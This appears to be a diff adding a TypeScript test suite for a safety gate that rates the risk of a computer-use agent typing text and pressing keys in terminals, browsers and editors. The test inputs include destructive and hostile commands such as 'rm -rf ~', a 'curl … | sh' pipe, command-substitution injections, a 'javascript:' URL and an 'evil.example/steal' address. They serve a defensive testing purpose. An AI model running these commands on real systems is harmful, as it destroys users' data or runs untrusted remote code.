@@ -1,0 +1,286 @@
+/** Typed text and pressed keys, by where they go. */
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import type { GateContext } from '../../src/safety/risk.ts';
+import { asks, judgeJson, openTestGate } from './open-test-gate.ts';
+
+const gate = await openTestGate();
+const linux = await openTestGate({ platform: 'linux' });
+
+const type = (text: string, context: GateContext) => judgeJson(gate, { action: 'type', text }, context);
+const press = (keys: string, context: GateContext = {}) => judgeJson(gate, { action: 'key', keys }, context);
+
+const TERMINALS = [
+  'xterm',
+  'XTerm',
+  'Terminal',
+  'iTerm2',
+  'gnome-terminal-server',
+  'org.gnome.Terminal',
+  'com.apple.Terminal',
+  'konsole',
+  'kitty',
+  'Alacritty',
+  'WezTerm',
+  'Ghostty',
+  'x-terminal-emulator',
+  'Hyper',
+  'Warp',
+  'Script Editor',
+  'Spotlight',
+  'Raycast',
+  'Alfred',
+];
+
+describe('in a terminal, text with a line end is a command', () => {
+  for (const app of TERMINALS) {
+    test(app, () => {
+      assert.equal(type('rm -rf ~\n', { app }).risk, 'critical');
+      assert.equal(type('rm notes\n', { app }).risk, 'high');
+      assert.ok(!asks(type('ls -la\n', { app, typed: '' })));
+      assert.notEqual(type('ls -la\n', { app, typed: '' }).risk, 'safe');
+      assert.ok(!asks(type('rm -rf ~', { app })), 'nothing runs yet');
+      assert.equal(press('Return', { app, typed: 'rm -rf ~' }).risk, 'critical');
+      assert.ok(asks(press('cmd+v', { app })));
+    });
+  }
+});
+
+test('text typed piece by piece is judged whole when the line ends', () => {
+  assert.equal(type('-rf ~\n', { app: 'xterm', typed: 'rm ' }).risk, 'critical');
+  assert.equal(type('\n', { app: 'xterm', typed: 'rm -rf ~' }).risk, 'critical');
+  assert.equal(type(' | sh\n', { app: 'xterm', typed: 'curl http://x.y' }).risk, 'critical');
+  assert.ok(!asks(type('tus\n', { app: 'xterm', typed: 'git sta' })));
+});
+
+test('several lines are all judged', () => {
+  assert.ok(asks(type('ls\nrm x\n', { app: 'xterm' })));
+  assert.ok(asks(type('ls\nrm x\nls', { app: 'xterm' })));
+  assert.ok(asks(type('ls\r\nrm x\r\n', { app: 'xterm' })));
+  assert.ok(asks(type('ls\rrm x\r', { app: 'xterm' })));
+  assert.ok(!asks(type('ls\npwd\n', { app: 'xterm' })));
+});
+
+test('whatever ends a line counts as Enter', () => {
+  for (const keys of [
+    'Return',
+    'enter',
+    'KP_Enter',
+    'kp_enter',
+    'ctrl+m',
+    'ctrl+j',
+    'Control+M',
+    'control+j',
+    '⏎',
+    'shift+Return',
+    'ctrl+Return',
+    'Linefeed',
+    'ctrl+o',
+    'NumpadEnter',
+    'ctrl + m',
+    'CTRL+J',
+  ]) {
+    assert.equal(
+      press(keys, { app: 'xterm', typed: 'rm -rf /' }).risk === 'safe' ||
+        !asks(press(keys, { app: 'xterm', typed: 'rm -rf /' })),
+      false,
+      keys,
+    );
+  }
+  assert.equal(
+    judgeJson(gate, { action: 'hold_key', keys: 'Return', seconds: 1 }, { app: 'xterm', typed: 'rm -rf /' }).risk,
+    'critical',
+  );
+});
+
+test('Enter in a terminal asks when nobody knows what stands there', () => {
+  assert.ok(asks(press('Return', { app: 'xterm' })));
+  assert.ok(asks(press('Return', { app: 'xterm', typed: '' })), 'history may have filled the line');
+  assert.ok(asks(press('Return', { app: 'xterm', typed: '\u0000' })), 'the loop marks unknown text so');
+  assert.ok(asks(type('ls\n', { app: 'xterm', typed: '\u0000' })));
+  assert.ok(!asks(press('Return', { app: 'xterm', typed: 'git status' })));
+});
+
+test('what another shell than bash reads differently asks', () => {
+  for (const text of [
+    'ls # look\n',
+    'ls !rm\n',
+    '!!\n',
+    '^ls^rm\n',
+    'ls =rm\n',
+    "cat <<'E'\nrm x\nE\n",
+    "echo 'a\nrm x\n'\n",
+    "echo '$(rm x)'\n",
+    'ls *(e:rm:)\n',
+    'cat /etc/pa\t\n',
+    'ls `rm x`\n',
+    '~/x\n',
+    '=ls\n',
+  ]) {
+    assert.ok(asks(type(text, { app: 'Terminal' })), JSON.stringify(text));
+  }
+});
+
+test('keys that recall or change a command line ask', () => {
+  for (const keys of [
+    'Up',
+    'ctrl+r',
+    'ctrl+p',
+    'Tab',
+    'alt+.',
+    'ctrl+y',
+    'ctrl+x',
+    'ctrl+d',
+    'shift+Insert',
+    'ctrl+shift+v',
+    'cmd+v',
+    'ctrl+v',
+  ]) {
+    assert.ok(asks(press(keys, { app: 'xterm', typed: '' })), keys);
+  }
+  for (const keys of ['ctrl+c', 'ctrl+l', 'Page_Up', 'Escape'])
+    assert.ok(!asks(press(keys, { app: 'xterm', typed: '' })), keys);
+  for (const keys of ['Left', 'Home', 'BackSpace']) assert.ok(asks(press(keys, { app: 'xterm', typed: 'ls' })), keys);
+});
+
+test('the middle button pastes into a terminal', () => {
+  const click = { action: 'click', target: { x: 1, y: 2 }, button: 'middle' };
+  assert.ok(asks(judgeJson(gate, click, { app: 'xterm', element: { name: 'line', role: 'terminal' } })));
+  assert.ok(asks(judgeJson(gate, click, { element: { name: 'Article' } })), 'an unknown application could be one');
+});
+
+test('a terminal is told by its role or its title too', () => {
+  assert.equal(type('rm -rf ~\n', { app: 'Code', element: { role: 'terminal', name: 'Terminal 1' } }).risk, 'critical');
+  assert.equal(type('rm -rf ~\n', { window: 'alice@mac: ~' }).risk, 'critical');
+  assert.equal(type('rm -rf ~\n', { window: 'alice — -zsh — 80×24' }).risk, 'critical');
+});
+
+test('Enter after text asks wherever it may send or run, and in an unknown application', () => {
+  assert.ok(asks(press('Return', { typed: 'hello' })));
+  assert.ok(asks(type('hello\n', {})));
+  for (const app of ['Google Chrome', 'Messages', 'Mail', 'Discord', 'Visual Studio Code', 'Finder', 'Something New']) {
+    assert.ok(asks(press('Return', { app, typed: 'hello' })), app);
+    assert.ok(asks(type('hello\n', { app })), app);
+  }
+});
+
+test('a new line in an editor is only that', () => {
+  for (const app of ['TextEdit', 'Mousepad', 'gedit', 'Notes', 'LibreOffice Writer']) {
+    assert.ok(!asks(type('one\ntwo\n', { app, window: 'Untitled' })), app);
+    assert.ok(!asks(press('Return', { app, window: 'notes.txt', typed: 'one' })), app);
+  }
+  assert.ok(asks(press('Return', { app: 'Mousepad', window: 'Save As', typed: 'x' })), 'a dialog has a default button');
+  assert.ok(asks(press('Return', { app: 'TextEdit', window: 'x', element: { role: 'button', name: 'Delete' } })));
+});
+
+test('typing without a line end runs anywhere but in a password field', () => {
+  assert.equal(type('hello', {}).risk, 'moderate');
+  assert.equal(type('hello', { app: 'Safari' }).risk, 'moderate');
+  assert.equal(type('hunter2', { app: 'Safari', element: { role: 'password text', secure: true } }).risk, 'high');
+  assert.equal(
+    judgeJson(gate, { action: 'set_value', element: 1, text: 'x' }, { element: { secure: true } }).risk,
+    'high',
+  );
+  assert.ok(asks(press('a', { element: { secure: true } })));
+  assert.ok(asks(type('x', { app: '1Password 8' })));
+});
+
+test('control characters are keys in disguise', () => {
+  for (const char of ['\u0003', '\u001b', '\u0016', '\u0000', '\u007f', '\u009b'])
+    assert.ok(asks(type(`a${char}b`, { app: 'Safari' })));
+});
+
+test('the address bar takes addresses and searches', () => {
+  const bar = { app: 'Google Chrome', element: { role: 'entry', name: 'Address and search bar' } };
+  assert.ok(!asks(type('wikipedia.org\n', { ...bar, goal: 'open wikipedia.org' })));
+  assert.ok(asks(type('evil.example/steal\n', { ...bar, goal: 'open wikipedia.org' })));
+  assert.equal(press('Return', { ...bar, typed: 'javascript:alert(1)' }).risk, 'critical');
+  assert.ok(!asks(press('Return', { ...bar, typed: 'weather berlin', goal: 'what is the weather in Berlin?' })));
+  assert.ok(asks(press('Return', { ...bar, typed: 'my password is hunter2', goal: 'what is the weather in Berlin?' })));
+});
+
+describe('these combinations ask wherever they are pressed', () => {
+  const everywhere = [
+    'cmd+shift+delete',
+    'cmd+shift+backspace',
+    'cmd+option+shift+backspace',
+    'cmd+option+escape',
+    'cmd+shift+q',
+    'cmd+option+shift+q',
+    'ctrl+cmd+q',
+    'control+command+q',
+    'ctrl+alt+delete',
+    'ctrl+alt+backspace',
+    'ctrl+alt+F1',
+    'ctrl+alt+f7',
+    'alt+F4',
+    'ctrl+alt+l',
+    'shift+delete',
+    'cmd+option+w',
+    'cmd+space',
+    'alt+f2',
+    'ctrl+shift+delete',
+    'XF86PowerOff',
+    'Power',
+    'XF86Sleep',
+    'ctrl+shift+power',
+    'ctrl+shift+eject',
+    'alt+sysrq+b',
+    'ctrl+alt+End',
+    'cmd+option+i',
+    'ctrl+shift+j',
+    'F12',
+    'cmd+Return',
+    'ctrl+Return',
+    'ctrl+x ctrl+e',
+    '⌘⇧⌫',
+    'Super_L+Shift+q',
+    'Meta+Shift+Q',
+  ];
+  for (const keys of everywhere) {
+    test(keys, () => {
+      for (const context of [{}, { app: 'Safari' }, { app: 'xterm', typed: '' }, { app: 'TextEdit' }])
+        assert.ok(asks(press(keys, context)));
+    });
+  }
+});
+
+test('Super+L locks a Linux desktop; on a Mac it is the address bar', () => {
+  assert.ok(asks(judgeJson(linux, { action: 'key', keys: 'super+l' }, { app: 'firefox' })));
+  assert.ok(!asks(press('cmd+l', { app: 'Safari' })));
+});
+
+test('everyday keys do not ask', () => {
+  for (const keys of [
+    'cmd+s',
+    'cmd+c',
+    'cmd+a',
+    'cmd+z',
+    'cmd+t',
+    'Escape',
+    'Tab',
+    'Page_Down',
+    'Down',
+    'cmd+f',
+    'ctrl+f',
+    'F5',
+    'cmd+w',
+    'cmd+v',
+    'ctrl+plus',
+    'a',
+    'space',
+  ]) {
+    assert.ok(!asks(press(keys, { app: 'Safari', window: 'News' })), keys);
+  }
+});
+
+test('Space and Enter on a button press it', () => {
+  const buy = { app: 'Safari', element: { role: 'button', name: 'Buy now' } };
+  assert.ok(asks(press('space', buy)));
+  assert.ok(asks(press('Return', buy)));
+  assert.ok(!asks(press('space', { app: 'Safari', element: { role: 'button', name: 'Show more' } })));
+});
+
+test('Delete in a file manager or a mailbox can delete', () => {
+  for (const app of ['Finder', 'Nautilus', 'Mail']) assert.ok(asks(press('Delete', { app })), app);
+});
